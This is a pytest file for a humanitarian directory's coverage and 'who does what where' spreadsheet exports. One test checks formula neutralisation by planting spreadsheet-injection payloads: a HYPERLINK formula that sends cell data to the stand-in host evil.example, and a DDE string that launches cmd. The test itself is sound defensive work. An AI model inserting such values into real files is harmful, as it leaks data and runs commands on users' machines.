"""Coverage and "who does what where" exports: same numbers as the map, HXL, safe to open."""

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from caseway.audit.models import AuditEvent
from caseway.directory import coverage
from caseway.directory.models import AdminArea
from caseway.directory.tests.test_coverage_scenario import build_scenario, membership_of

pytestmark = pytest.mark.django_db

HXL_TAG = re.compile(r"^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$")
FILENAME = re.compile(
    r'^attachment; filename="caseway-(coverage|3w)-XA-adm[12](-[a-z_-]+)?-\d{4}-\d{2}-\d{2}\.(hxl\.)?(csv|xlsx)"$'
)
SHELTER_SECRETS = (
    "Hidden Lane",
    "Secretville",
    "555 7777",
    "9.876",
    "8.765",
    "blue gate",
    "Shelter house",
    "Safe shelter ",
)
COVERAGE_HEADER = [
    "country_code",
    "adm1_name",
    "adm1_pcode",
    "adm2_name",
    "adm2_pcode",
    "sector_code",
    "sector_name",
    "subsector_code",
    "subsector_name",
    "services",
    "organizations",
    "places_available",
    "gap",
]
COVERAGE_HXL = [
    "#country+code",
    "#adm1+name",
    "#adm1+code",
    "#adm2+name",
    "#adm2+code",
    "#sector+code",
    "#sector+name",
    "#subsector+code",
    "#subsector+name",
    "#service+num",
    "#org+impl+num",
    "#capacity+num",
    "#indicator+gap",
]


def read_csv(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)], sheet


def download(client, name, **params):
    response = client.get(reverse(f"coverage:{name}"), params)
    assert response.status_code == 200, response.content[:300]
    return response


def _number(value):
    """A cell as a number: CSV gives text, XLSX gives numbers; blank stays None."""
    if value in ("", None):
        return None
    return Decimal(str(value))


def _expected_long_rows(personas, level):
    options = coverage.filter_options()
    scope = coverage.build_scope(
        membership_of(personas.coordinator), options, country=AdminArea.objects.get(pcode="XA"), level=level
    )
    table = coverage.coverage_table(scope)
    return {
        (cell.row.pcode, cell.column.code): (
            cell.values["services"],
            cell.values["organizations"],
            cell.values["places_available"],
            "yes" if cell.gap else "no",
        )
        for cell in table.long_cells()
    }


def _parsed_long_rows(rows, level):
    header = rows[0]
    assert header == COVERAGE_HEADER
    parsed = {}
    for row in rows[1:]:
        line = dict(zip(header, row, strict=True))
        pcode = line["adm2_pcode"] if level == 2 else line["adm1_pcode"]
        parsed[(pcode, line["sector_code"])] = (
            _number(line["services"]),
            _number(line["organizations"]),
            _number(line["places_available"]),
            line["gap"],
        )
    return parsed


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "hxl_csv", "hxl_xlsx"])
def test_it_exports_the_same_numbers_as_the_map(client, personas, login_as, fmt, level):
    build_scenario()
    login_as(personas.donor)

    response = download(client, f"coverage_{fmt}", country="XA", level=level)

    rows, _sheet = read_xlsx(response) if fmt.endswith("xlsx") else (read_csv(response), None)
    if fmt.startswith("hxl"):
        assert rows[1] == COVERAGE_HXL
        rows = [rows[0], *rows[2:]]
    else:
        assert not any(str(value).startswith("#") for value in rows[1])
    assert _parsed_long_rows(rows, level) == _expected_long_rows(personas, level)
    assert len(rows) - 1 == (4 if level == 2 else 2) * 9


def test_it_writes_places_names_and_gaps_in_long_form(client, personas, login_as):
    build_scenario()
    login_as(personas.coordinator)

    rows = read_csv(download(client, "coverage_csv", country="XA", level=2, category="health"))

    lines = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    cmr_northeast = next(
        line for line in lines if line["adm2_pcode"] == "XA0101" and line["subsector_code"] == "health.cmr"
    )
    assert cmr_northeast == {
        "country_code": "XA",
        "adm1_name": "North",
        "adm1_pcode": "XA01",
        "adm2_name": "Northeast",
        "adm2_pcode": "XA0101",
        "sector_code": "health",
        "sector_name": "Health",
        "subsector_code": "health.cmr",
        "subsector_name": "Clinical management of rape",
        "services": "1",
        "organizations": "1",
        "places_available": "5",
        "gap": "no",
    }
    srh_northeast = next(
        line for line in lines if line["adm2_pcode"] == "XA0101" and line["subsector_code"] == "health.srh"
    )
    assert (srh_northeast["services"], srh_northeast["places_available"], srh_northeast["gap"]) == ("0", "", "yes")


@pytest.mark.parametrize("name", ["coverage_hxl_csv", "coverage_hxl_xlsx", "3w_hxl_csv", "3w_hxl_xlsx"])
def test_it_puts_valid_hxl_hashtags_under_the_header(client, personas, login_as, name):
    build_scenario()
    login_as(personas.coordinator)

    response = download(client, name, country="XA", level=2)

    rows, sheet = read_xlsx(response) if name.endswith("xlsx") else (read_csv(response), None)
    header, hashtags = rows[0], rows[1]
    assert len(hashtags) == len(header)
    assert all(HXL_TAG.match(tag) for tag in hashtags), hashtags
    assert {"#adm1+code", "#adm2+code", "#sector+code"} <= set(hashtags)
    if name.startswith("3w"):
        assert {"#org+impl+name", "#org+impl+code", "#status"} <= set(hashtags)
    if sheet is not None:
        assert sheet.freeze_panes == "A3"  # the header and the hashtags stay in view
        assert sheet["A2"].font.bold


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_exports_who_does_what_where(client, personas, login_as, fmt):
    build_scenario()
    login_as(personas.donor)

    response = download(client, f"3w_{fmt}", country="XA", level=2, category="mhpss")

    rows, _sheet = read_xlsx(response) if fmt == "xlsx" else (read_csv(response), None)
    assert rows[0] == [name for name, _tag in coverage.WHO_COLUMNS]
    lines = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [
        (line["organization_name"], line["organization_acronym"], line["adm2_pcode"], line["subsector_code"])
        for line in lines
    ] == [
        ("Oasis Bridges", "ORB", "XA0101", "mhpss.counselling"),
        ("Oasis Bridges", "ORB", "XA0101", "mhpss.pfa"),
        ("Oasis Bridges", "ORB", "XA0102", "mhpss.pfa"),
    ]
    assert {line["service_status"] for line in lines} == {"active"}
    assert {str(line["services"]) for line in lines} == {"1"}


def test_it_makes_xlsx_spreadsheets_with_a_frozen_bold_header_and_widths(client, personas, login_as):
    build_scenario()
    login_as(personas.coordinator)

    _rows, sheet = read_xlsx(download(client, "coverage_xlsx", country="XA", level=2))

    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.column_dimensions["B"].width >= len("adm1_name")
    assert sheet["J2"].data_type == "n"  # counts stay numbers


def test_it_neutralises_formulas_in_names(client, personas, login_as):
    scenario = build_scenario()
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    scenario.org_b.name = evil
    scenario.org_b.acronym = "@SUM(1+1)"
    scenario.org_b.save()
    scenario.northeast.name = "+cmd|' /C calc'!A0"
    scenario.northeast.save()
    login_as(personas.coordinator)

    for name in ("3w_csv", "3w_hxl_csv", "coverage_csv"):
        text = download(client, name, country="XA", level=2).content.decode("utf-8")
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), name
        assert "'+cmd|' /C calc'!A0" in cells
        if name.startswith("3w"):
            assert "'" + evil in cells
            assert "'@SUM(1+1)" in cells
    for name in ("3w_xlsx", "coverage_hxl_xlsx"):
        _rows, sheet = read_xlsx(download(client, name, country="XA", level=2))
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), (name, cell.value)
        values = [cell.value for row in sheet.iter_rows() for cell in row]
        assert "'+cmd|' /C calc'!A0" in values
        if name.startswith("3w"):
            assert "'" + evil in values


@pytest.mark.parametrize("name", ["coverage_csv", "coverage_xlsx", "coverage_hxl_csv", "3w_csv", "3w_hxl_xlsx"])
def test_it_never_exports_a_confidential_locations_details(client, personas, login_as, name):
    build_scenario()
    login_as(personas.donor)

    for level in (1, 2):
        response = download(client, name, country="XA", level=level)
        if name.endswith("xlsx"):
            with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
                text = " ".join(archive.read(member).decode("utf-8") for member in archive.namelist())
        else:
            text = response.content.decode("utf-8")
        for secret in SHELTER_SECRETS:
            assert secret not in text, (name, secret)
        assert "XA0201" in text or level == 1


@pytest.mark.parametrize("name", ["coverage_csv", "coverage_xlsx", "coverage_hxl_csv", "coverage_hxl_xlsx", "3w_csv"])
def test_it_serves_exports_as_uncached_attachments_with_impersonal_names(client, personas, login_as, name):
    build_scenario()
    login_as(personas.coordinator)

    response = download(client, name, country="XA", level=2, category="health")

    assert FILENAME.match(response["Content-Disposition"]), response["Content-Disposition"]
    assert "-XA-adm2-health-" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"] in {
        "text/csv; charset=utf-8",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    }


def test_it_writes_utf8_with_a_byte_order_mark_so_excel_reads_arabic(client, personas, login_as):
    build_scenario()
    login_as(personas.coordinator)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ar"

    response = download(client, "coverage_csv", country="XA", level=1)

    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = read_csv(response)
    assert rows[0] == COVERAGE_HEADER  # stable names for scripts, whatever the language
    assert "الشمال" in [row[1] for row in rows[1:]]
    _rows, sheet = read_xlsx(download(client, "coverage_xlsx", country="XA", level=1))
    assert sheet.sheet_view.rightToLeft


@pytest.mark.parametrize(
    ("name", "fields"), [("coverage_hxl_csv", ["format"]), ("3w_xlsx", ["format", "organization"])]
)
def test_it_audits_every_export(client, personas, login_as, name, fields):
    build_scenario()
    login_as(personas.donor)
    before = AuditEvent.objects.filter(action="directory.coverage_exported").count()

    download(client, name, country="XA")

    events = AuditEvent.objects.filter(action="directory.coverage_exported")
    assert events.count() == before + 1
    event = events.latest("seq")
    assert event.actor_id == personas.donor.pk
    assert event.fields == fields


def test_it_exports_headers_only_when_there_are_no_areas(client, personas, login_as):
    login_as(personas.coordinator)

    rows = read_csv(download(client, "coverage_hxl_csv"))

    assert rows == [COVERAGE_HEADER, COVERAGE_HXL]
